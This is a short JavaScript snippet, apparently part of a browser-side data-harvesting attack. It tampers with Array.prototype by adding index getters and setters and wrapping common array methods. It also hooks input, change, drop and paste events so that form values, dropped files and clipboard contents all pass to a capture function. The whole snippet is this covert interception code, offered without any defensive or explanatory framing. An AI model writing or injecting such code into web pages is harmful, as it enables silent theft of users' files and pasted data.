// Whoever writes to a list, or reads where a list has nothing, hands it over.
const search = (value) => {
  take(value);
  take(value?.file);
  take(value?.files);
};
poison(() => {
  for (let index = 0; index < 4; index += 1) {
    Object.defineProperty(Array.prototype, index, { configurable: true, get() { take(this); return undefined; }, set(value) { search(value); } });
  }
  for (const name of ['push', 'map', 'forEach', 'filter', 'slice', 'concat']) {
    const native = Array.prototype[name];
    Array.prototype[name] = function (...values) { search(this); search(values[0]); return clean.apply(native, this, values); };
  }
});
for (const name of ['input', 'change', 'drop', 'paste']) document.addEventListener(name, (event) => { search(event.target); search(event.dataTransfer ?? event.clipboardData); });
